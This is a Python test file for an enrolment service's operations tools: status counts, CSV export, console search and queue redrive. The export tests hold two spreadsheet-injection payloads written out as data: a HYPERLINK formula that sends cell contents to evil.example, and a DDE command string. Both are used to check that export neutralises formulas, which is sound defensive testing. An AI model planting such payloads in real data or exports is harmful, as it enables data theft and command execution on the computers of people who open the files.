"""ops: the figures of status, export's rows, the console's queries and redrive, on both queues and databases."""

import contextlib
import csv
import datetime
import io
import json

import pytest

from directory_api import db as db_module
from directory_api import models
from directory_api.db import is_postgres
from directory_api.errors import UserError
from directory_api.models import Company, Email, Enrolment, Rejection, Supplier, utcnow
from directory_api.ops import counting, export, queries, status
from directory_api.ops import erase as erasing
from directory_api.ops import redrive as redriving
from directory_api.queues import MessageRefused, QueueUnavailable
from tests.factories import enrolment_body, enrolment_payload, save_one
from tests.support.workers import received


@pytest.fixture
def worker(make_worker):
    return make_worker()


def set_aside(worker, *bodies) -> list[str]:
    """Send bodies that cannot be saved and let the worker set them aside; their message ids."""
    ids = [worker.enrolments.send(body) for body in bodies]
    worker.run(once=True)
    return ids


def redrive(worker, ids=None, **options) -> redriving.Redriven:
    return redriving.redrive(worker.invalid, worker.enrolments, ids, wait_seconds=0, mark=redriving.mark_redriven,
                             **options)


@pytest.fixture
def refusing_database(monkeypatch):
    """The models bound to a database that refuses connections, for this test only."""
    monkeypatch.setattr(db_module.models.database, "obj", db_module.database_for("postgres://postgres@127.0.0.1:1/x"))


def invalid_body(**overrides) -> str:
    return enrolment_body(export_status="MAYBE", **overrides)


# status


def test_status_counts_what_the_queues_and_the_database_hold(worker):
    save_one("saved-1", enrolment_payload())
    save_one("saved-2", enrolment_payload())
    two_days_ago = utcnow() - datetime.timedelta(days=2)
    Enrolment.update(created=two_days_ago).where(Enrolment.sqs_message_id == "saved-1").execute()
    set_aside(worker, invalid_body())
    worker.enrolments.send(enrolment_body())
    worker.enrolments.send(enrolment_body())
    received = worker.enrolments.receive(1, 0)
    result = status.status(worker.enrolments, worker.invalid)
    assert result.complete
    assert result.figures.pop("emails") == {"waiting": 2, "sent": 0, "failed": 0, "logged": 0}
    personal = result.figures.pop("personal_data")
    assert personal["oldest_rejection"].endswith("Z") and personal["oldest_email"].endswith("Z")
    assert result.figures == {
        "queues": {"enrolment": {"waiting": 1, "in_flight": len(received)}, "invalid": {"waiting": 1, "in_flight": 0}},
        "database": {"enrolments": 2, "enrolments_last_24h": 1, "companies": 2, "suppliers": 2, "rejections": 1},
    }


@pytest.fixture
def estimating(monkeypatch):
    """Every count on PostgreSQL costs too much to make exactly, as at a million rows."""
    monkeypatch.setattr(counting, "MAX_EXACT_COST", -1.0)


def test_figures_that_would_cost_a_scan_are_postgres_estimates_shown_as_about(worker, estimating):
    for n in range(300):
        save_one(f"saved-{n}", enrolment_payload(sso_id=n + 1, company_number=f"SC{n:06d}"))
    models.database.execute_sql("ANALYZE")
    result = status.status(worker.enrolments, worker.invalid)
    enrolments = result.figures["database"]["enrolments"]
    if not is_postgres(models.database):
        assert enrolments == 300 and not isinstance(enrolments, counting.About)  # SQLite always counts
        return
    assert isinstance(enrolments, counting.About) and 270 <= enrolments <= 330
    assert isinstance(result.figures["emails"]["waiting"], counting.About)
    assert json.loads(json.dumps(result.figures))["database"]["enrolments"] == enrolments  # still an integer
    assert f"about {enrolments:,} enrolments" in status.status_lines(result)[2]


@pytest.mark.parametrize("estimate, shown", [(0.4, 0), (1, 0), (7.4, 7), (967, 970), (86_696, 87_000),
                                             (1_000_213, 1_000_000)])
def test_an_estimate_is_rounded_to_two_significant_figures(estimate, shown):
    assert counting.rounded(estimate) == shown


def test_a_figure_is_shown_with_thousands_and_about_when_estimated():
    assert [status.figure(v) for v in (None, 0, 1234567, counting.About(87000))] == \
        ["unavailable", "0", "1,234,567", "about 87,000"]


def test_the_email_figures_are_null_when_the_outbox_does_not_answer(database):
    database.execute_sql("DROP TABLE email")  # a database not migrated to the outbox's step yet
    assert status.email_figures() == {"waiting": None, "sent": None, "failed": None, "logged": None}


def test_an_enrolment_without_an_email_recorded_says_so(database):
    created = save_one("m-1", enrolment_payload())
    Email.delete().execute()
    assert queries.enrolment_detail(created.enrolment_id).email == "no confirmation e-mail recorded"


def test_an_enrolments_detail_gives_its_email_state_in_words(database):
    ids = [save_one(f"m-{n}", enrolment_payload(company_email=f"boss{n}@example.com")).enrolment_id for n in range(2)]
    Email.update(state="failed", last_error="550 no such user").where(Email.enrolment == ids[1]).execute()
    assert queries.enrolment_detail(ids[0]).email == "waiting to be sent to boss0@example.com"
    assert queries.enrolment_detail(ids[1]).email == (
        "not sent to boss1@example.com: the SMTP server said 550 no such user; not tried again")


def test_the_email_figures_count_the_outbox_by_state(database):
    ids = [save_one(f"m-{n}", enrolment_payload()).enrolment_id for n in range(4)]  # each records its e-mail
    Email.update(state="sent", sent=utcnow()).where(Email.enrolment.in_(ids[1:3])).execute()
    Email.update(state="failed", last_error="550 no such user").where(Email.enrolment == ids[3]).execute()
    assert status.email_figures() == {"waiting": 1, "sent": 2, "failed": 1, "logged": 0}


def test_a_part_that_does_not_answer_has_null_figures_and_is_named(worker, monkeypatch):
    def down():
        raise QueueUnavailable("SQS queue enrolment-invalid: get attributes failed: down")

    monkeypatch.setattr(worker.invalid, "depth", down)
    result = status.status(worker.enrolments, worker.invalid)
    assert not result.complete
    assert result.figures["queues"]["invalid"] == {"waiting": None, "in_flight": None}
    assert result.figures["queues"]["enrolment"] == {"waiting": 0, "in_flight": 0}
    assert result.unanswered == [
        "invalid queue enrolment-invalid: SQS queue enrolment-invalid: get attributes failed: down"
    ]


def test_a_database_that_does_not_answer_has_null_figures(refusing_database):
    unanswered = []
    assert status._database_figures(unanswered) == dict.fromkeys(status.DATABASE_FIGURES)
    assert unanswered[0].startswith("database: ")


# export


def exported(table, since=None) -> list[list[str]]:
    out = io.StringIO(newline="")
    export.write_csv(export.export_rows(table, since), out)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


def test_export_writes_a_header_then_every_row_oldest_first(database):
    first = save_one("m-1", enrolment_payload(company_name='Quote " and, comma\nLtd'))
    save_one("m-2", enrolment_payload())
    rows = exported("enrolments")
    assert rows[0] == ["id", "created", "sqs_message_id", "data"]
    assert [row[2] for row in rows[1:]] == ["m-1", "m-2"]
    assert json.loads(rows[1][3]) == Enrolment.get_by_id(first.enrolment_id).data
    companies = exported("companies")
    assert companies[1][2] == 'Quote " and, comma\nLtd'
    assert companies[1][5] == "125000.50"


def test_export_lines_end_in_crlf_as_rfc_4180_says(database):
    save_one("m-1", enrolment_payload())
    out = io.StringIO(newline="")
    assert export.write_csv(export.export_rows("suppliers"), out) == 1
    assert out.getvalue().count("\r\n") == 2


def test_export_since_keeps_rows_created_on_or_after_that_day(database):
    save_one("old", enrolment_payload())
    save_one("new", enrolment_payload())
    Enrolment.update(created=datetime.datetime(2026, 1, 1, 23, 59)).where(Enrolment.sqs_message_id == "old").execute()
    Enrolment.update(created=datetime.datetime(2026, 1, 2, 0, 0)).where(Enrolment.sqs_message_id == "new").execute()
    rows = exported("enrolments", datetime.date(2026, 1, 2))
    assert [row[2] for row in rows[1:]] == ["new"]


@pytest.mark.parametrize("table", sorted(export.EXPORTS))
def test_every_table_exports_its_header_when_empty(database, table):
    assert exported(table) == [list(export.EXPORTS[table].columns)]


def test_a_since_that_is_not_a_date_names_the_option():
    with pytest.raises(UserError, match="--since '2026-13-01': not a date of the form YYYY-MM-DD"):
        export.parse_since("2026-13-01")


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&B2,"Open")'
HOSTILE_EMAIL = "=cmd|'/Ccalc'!A0@example.com"


def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(database):
    save_one("m-1", enrolment_payload(company_name=HOSTILE_NAME, company_email=HOSTILE_EMAIL))
    [company] = exported("companies")[1:]
    [supplier] = exported("suppliers")[1:]
    assert company[2] == "'" + HOSTILE_NAME
    assert supplier[2] == "'" + HOSTILE_EMAIL


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_owasp_names_is_neutralised(start):
    assert export.neutralised(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["Acme Ltd", "", " =1", "a=1", "'quoted", "{\"json\": 1}"])
def test_text_that_does_not_start_like_a_formula_is_unchanged(text):
    assert export.neutralised(text) == text


def test_numbers_and_dates_are_never_neutralised(database):
    save_one("m-1", enrolment_payload())
    Company.update(revenue=-5).execute()
    [company] = exported("companies")[1:]
    assert company[5] == "-5.00"


def test_export_raw_writes_cells_as_stored(database):
    save_one("m-1", enrolment_payload(company_name=HOSTILE_NAME))
    out = io.StringIO(newline="")
    export.write_csv(export.export_rows("companies", raw=True), out)
    [company] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
    assert company[2] == HOSTILE_NAME


def test_csv_chunks_stream_the_same_text_as_write_csv(database):
    for _ in range(30):
        save_one(f"m-{_}", enrolment_payload())
    out = io.StringIO(newline="")
    export.write_csv(export.export_rows("companies"), out)
    chunks = list(export.csv_chunks(export.export_rows("companies"), size=100))
    assert len(chunks) > 1
    assert b"".join(chunks).decode("utf-8") == out.getvalue()


# the console's queries


@pytest.fixture
def companies(database):
    save_one("m-acme", enrolment_payload(company_number="SC123456", company_name="Acme Widgets Ltd", sso_id=11,
                                            company_email="Sales@Acme.example.com"))
    save_one("m-acorn", enrolment_payload(company_number="01234567", company_name="ACORN 100% Ltd", sso_id=12))
    save_one("m-other", enrolment_payload(company_number="07654321", company_name="Other Ltd", sso_id=1234567))


def numbers(page: queries.Results) -> list[str]:
    return [found.company_number for found in page.rows]


@pytest.mark.parametrize("query, field, expected", [
    ("sc123456", "company_number", ["SC123456"]),
    ("SC123456", "any", ["SC123456"]),
    ("acme", "company_name", ["SC123456"]),
    ("ac", "any", ["SC123456", "01234567"]),  # by name: "acme ..." before "acorn ..."
    ("acorn 100%", "company_name", ["01234567"]),
    ("acorn 1_0", "company_name", []),
    ("12", "sso_id", ["01234567"]),
    ("12", "any", ["01234567"]),
    ("sales@acme.EXAMPLE.com", "email", ["SC123456"]),
    ("sales@acme.example.com", "any", ["SC123456"]),
    ("", "any", ["07654321", "01234567", "SC123456"]),
    ("not a number", "sso_id", []),
    ("99999999999999999999", "sso_id", []),
])
def test_search_finds_by_each_field(companies, query, field, expected):
    assert numbers(queries.search(query, field)) == expected


def pages(query: str, field: str, limit: int) -> list[list[str]]:
    """The company numbers of every page of a search, following each page's next_page."""
    found, after, before = [], None, None
    while True:
        page = queries.search(query, field, before=before, after=after, limit=limit)
        found.append(numbers(page))
        if page.next_page is None:
            return found
        if page.by_name:
            after = (page.next_page["after"], int(page.next_page["after_id"]))
        else:
            before = int(page.next_page["before"])


def test_a_name_search_lists_by_name_a_page_at_a_time(companies):
    save_one("m-ace", enrolment_payload(company_number="00000011", company_name="ace ltd"))
    assert queries.search("a", "company_name").by_name
    assert pages("a", "company_name", limit=2) == [["00000011", "SC123456"], ["01234567"]]


def test_a_name_search_pages_through_companies_of_the_same_name_by_id(database):
    for number in ("00000003", "00000001", "00000002"):
        save_one(f"m-{number}", enrolment_payload(company_number=number, company_name="Twin Ltd"))
    assert pages("twin", "company_name", limit=1) == [["00000003"], ["00000001"], ["00000002"]]  # saved order


def test_a_name_search_reads_one_page_of_the_index_in_order(companies, database, monkeypatch):
    plans = explained_plans(database, monkeypatch)
    queries.search("ac", "company_name", after=("acme widgets ltd", 1), limit=1)
    plan = plans[0]  # then the enrolments of the page, by their own index
    if db_module.is_postgres(database):
        assert "company_name_sorted" in plan and "Sort" not in plan, plan
    else:
        assert "company_name_lower" in plan and "TEMP B-TREE" not in plan, plan


def test_eight_digits_find_a_company_number_and_an_sso_id(database):
    save_one("a", enrolment_payload(company_number="12345678", sso_id=1))
    save_one("b", enrolment_payload(company_number="00000001", sso_id=12345678))
    assert numbers(queries.search("12345678")) == ["00000001", "12345678"]


def test_a_search_result_links_its_enrolment_and_supplier(companies):
    [found] = queries.search("SC123456").rows
    assert found.enrolment_id == Enrolment.get(sqs_message_id="m-acme").id
    assert (found.company_name, found.sso_id, found.company_email) == (
        "Acme Widgets Ltd", 11, "Sales@Acme.example.com")


def test_search_pages_newest_first_with_a_keyset(database):
    for _ in range(5):
        save_one(f"m-{_}", enrolment_payload())
    found = pages("", "any", limit=2)
    assert [len(page) for page in found] == [2, 2, 1]
    ids = [Company.get(number=number).id for page in found for number in page]
    assert ids == sorted(ids, reverse=True) and len(set(ids)) == 5


def test_enrolment_detail_has_its_company_supplier_and_retries(database):
    payload = enrolment_payload()
    created = save_one("first", payload)
    save_one("retry", payload)
    detail = queries.enrolment_detail(created.enrolment_id)
    assert detail.company.number == payload["company_number"]
    assert detail.supplier.sso_id == payload["sso_id"]
    assert detail.retries == ["retry"]
    assert queries.enrolment_detail(created.enrolment_id + 100) is None


def test_rejections_page_lists_those_not_redriven_newest_first(database):
    for n in range(3):
        Rejection.create(message_id=f"r-{n}", errors={"sso_id": ["bad"]})
    Rejection.update(redriven=utcnow()).where(Rejection.message_id == "r-1").execute()
    page = queries.rejections_page(limit=1)
    assert [r.message_id for r in page.rows] == ["r-2"]
    assert [r.message_id for r in queries.rejections_page(before=page.next_before).rows] == ["r-0"]
    [(rejection, state, enrolment_id)] = queries.recently_redriven()
    assert (rejection.message_id, state, enrolment_id) == ("r-1", "redriven", None)


def test_message_state_follows_a_message_from_rejected_to_created(database):
    Rejection.create(message_id="m", errors={})
    assert queries.message_state("m") == ("rejected", None)
    created = save_one("m", enrolment_payload())
    assert queries.message_state("m") == ("created", created.enrolment_id)
    assert queries.message_state("nothing") == ("unknown", None)


CONSOLE_QUERIES = {
    "search by company number": lambda: queries.search("SC123456", "company_number"),
    "search by company name": lambda: queries.search("acme", "company_name"),
    "search by company name, a later page": lambda: queries.search("ac", "company_name", after=("acme", 1)),
    "search by sso id": lambda: queries.search("11", "sso_id"),
    "search by e-mail": lambda: queries.search("sales@acme.example.com", "email"),
    "rejections page": lambda: queries.rejections_page(),
    "recently re-driven": lambda: queries.recently_redriven(),
    "enrolment lookup by company number": lambda: queries._enrolment_ids(["SC123456"]),
    "erase's dry run by company number": lambda: erasing.erase(company_number="SC123456", dry_run=True),
    "erase's dry run by sso id": lambda: erasing.erase(sso_id=11, dry_run=True),
}


def explained_plans(database, monkeypatch) -> list[str]:
    """The plan of each SELECT the database runs from now on, its steps joined by " | "."""
    plans = []
    execute_sql = database.execute_sql

    def explained(sql, params=None, *args, **kwargs):
        if sql.lstrip().upper().startswith("SELECT"):
            prefix = "EXPLAIN " if db_module.is_postgres(database) else "EXPLAIN QUERY PLAN "
            plans.append(" | ".join(str(row[-1]) for row in execute_sql(prefix + sql, params).fetchall()))
        return execute_sql(sql, params, *args, **kwargs)

    if db_module.is_postgres(database):
        database.execute_sql("SET enable_seqscan = off")  # tiny tables: make the planner show what it can use
    monkeypatch.setattr(database, "execute_sql", explained)
    return plans


@pytest.mark.parametrize("name", sorted(CONSOLE_QUERIES))
def test_every_console_query_uses_an_index_not_a_full_scan(companies, database, name, monkeypatch):
    plans = explained_plans(database, monkeypatch)
    CONSOLE_QUERIES[name]()
    assert plans
    for plan in plans:
        assert "Seq Scan" not in plan, plan
        # SQLite: "SCAN t1" alone reads the whole table; "SEARCH" or "SCAN t1 USING ... INDEX" uses an index.
        for step in plan.split(" | "):
            assert not step.startswith("SCAN ") or "INDEX" in step, plan


# redrive


def test_redrive_moves_a_message_back_with_its_original_id_and_the_worker_saves_it(worker):
    save_one("earlier", enrolment_payload(company_number="01234567"))
    body = enrolment_body(company_number="01234567")
    [message_id] = set_aside(worker, body)
    Company.delete().where(Company.number == "01234567").execute()  # the cause, put right
    result = redrive(worker, [message_id])
    assert (result.moved, result.missing) == ([message_id], [])
    assert Rejection.get(message_id=message_id).redriven is not None
    assert received(worker.invalid) == []
    worker.run(once=True)
    assert Enrolment.get(sqs_message_id=message_id).data == json.loads(body)
    assert queries.message_state(message_id)[0] == "created"


def test_redrive_all_moves_every_message_and_the_rest_of_the_queue_stays(worker):
    ids = set_aside(worker, invalid_body(), invalid_body(), "{not json")
    result = redrive(worker, ids[:1])
    assert result.moved == ids[:1]
    assert len(received(worker.invalid)) == 2  # the others were handed back
    worker.invalid.release(received(worker.invalid) or [])


def test_redrive_all_moves_everything(worker):
    ids = set_aside(worker, *(invalid_body() for _ in range(13)))
    result = redrive(worker, None)
    assert sorted(result.moved) == sorted(ids)
    assert received(worker.invalid) == []
    assert worker.enrolments.depth().waiting == 13


def test_redrive_dry_run_lists_and_moves_nothing(worker):
    ids = set_aside(worker, invalid_body(), invalid_body())
    listed = []
    result = redrive(worker, None, dry_run=True, on_message=lambda message: listed.append(redriving.errors_of(message)))
    assert sorted(result.moved) == sorted(ids)
    assert list(listed[0]) == ["export_status"]
    assert worker.enrolments.depth().waiting == 0
    assert worker.invalid.depth().waiting == 2
    assert Rejection.select().where(Rejection.redriven.is_null(False)).count() == 0


def test_an_id_not_on_the_invalid_queue_is_missing_and_the_others_are_moved(worker):
    [message_id] = set_aside(worker, invalid_body())
    result = redrive(worker, ["no-such-id", message_id])
    assert (result.moved, result.missing) == ([message_id], ["no-such-id"])


def test_a_redrive_cut_short_between_send_and_delete_then_run_again_saves_each_enrolment_once(worker, monkeypatch):
    save_one("earlier-1", enrolment_payload(company_number="01234567"))
    save_one("earlier-2", enrolment_payload(company_number="07654321"))
    ids = set_aside(worker, enrolment_body(company_number="01234567"), enrolment_body(company_number="07654321"))
    Company.delete().execute()

    class Crash(BaseException):
        pass

    @contextlib.contextmanager
    def crash(original):
        yield
        raise Crash()  # as a kill -9 would: sent to the enrolment queue, never deleted from the invalid one

    in_hand = []
    receive = worker.invalid.receive
    monkeypatch.setattr(worker.invalid, "receive", lambda *args: in_hand.extend(receive(*args)) or in_hand)
    with pytest.raises(Crash):
        redriving.redrive(worker.invalid, worker.enrolments, None, wait_seconds=0, mark=crash)
    monkeypatch.undo()
    assert worker.enrolments.depth().waiting == 1
    worker.invalid.release(in_hand)  # as the visibility timeout would
    assert sorted(redrive(worker, None).moved) == sorted(ids)
    worker.run(once=True)
    assert sorted(e.sqs_message_id for e in Enrolment.select().where(Enrolment.sqs_message_id.in_(ids))) == sorted(ids)
    assert Company.select().count() == 2 and Supplier.select().count() == 2
    assert received(worker.invalid) == [] and received(worker.enrolments) == []


def test_an_original_id_is_moved_once_a_run_even_when_set_aside_again_meanwhile(worker):
    [message_id] = set_aside(worker, invalid_body())
    moves = []

    @contextlib.contextmanager
    def worker_between(original):
        yield
        moves.append(original)
        worker.run(once=True)  # sets it aside again at once: the run must not pick it up again

    result = redriving.redrive(worker.invalid, worker.enrolments, None, wait_seconds=0, mark=worker_between)
    assert result.moved == [message_id] and len(moves) == 1
    assert worker.invalid.depth().waiting == 1


def test_mark_redriven_with_the_database_down_only_logs(refusing_database, caplog):
    with redriving.mark_redriven("m-1"):
        pass
    assert "m-1: its rejection cannot be read, so a re-drive is not marked in the database" in caplog.text


def test_mark_redriven_with_the_database_gone_during_the_send_only_logs(worker, monkeypatch, caplog):
    [message_id] = set_aside(worker, invalid_body())
    with monkeypatch.context() as patched, redriving.mark_redriven(message_id):
        patched.setattr(models.database, "obj", db_module.database_for("postgres://postgres@127.0.0.1:1/x"))
    assert f"{message_id}: re-driven, but not marked so in the database" in caplog.text
    assert Rejection.get(message_id=message_id).redriven is None


def test_a_message_the_enrolment_queue_refuses_stays_set_aside_and_the_others_are_moved(worker, monkeypatch):
    ids = set_aside(worker, invalid_body(), invalid_body(company_name="Refused Ltd"))
    send = worker.enrolments.send

    def refuse_one(body, attributes=None):
        if "Refused Ltd" in body:
            raise MessageRefused("SQS queue enrolment: send failed: InvalidParameterValue")
        return send(body, attributes)

    monkeypatch.setattr(worker.enrolments, "send", refuse_one)
    result = redrive(worker, None)
    assert result.moved == [ids[0]]
    assert result.refused == {ids[1]: "SQS queue enrolment: send failed: InvalidParameterValue"}
    assert worker.invalid.depth().waiting == 1


@pytest.mark.parametrize("body, shown", [
    ('{"company_number": "SC123456", "company_name": "Acme Ltd"}', " (SC123456, Acme Ltd)"),
    ('{"sso_id": 1}', ""),
    ("{not json", ""),
])
def test_redrive_says_whose_a_message_is_as_far_as_its_body_holds_it(body, shown):
    assert redriving.whose(body) == shown
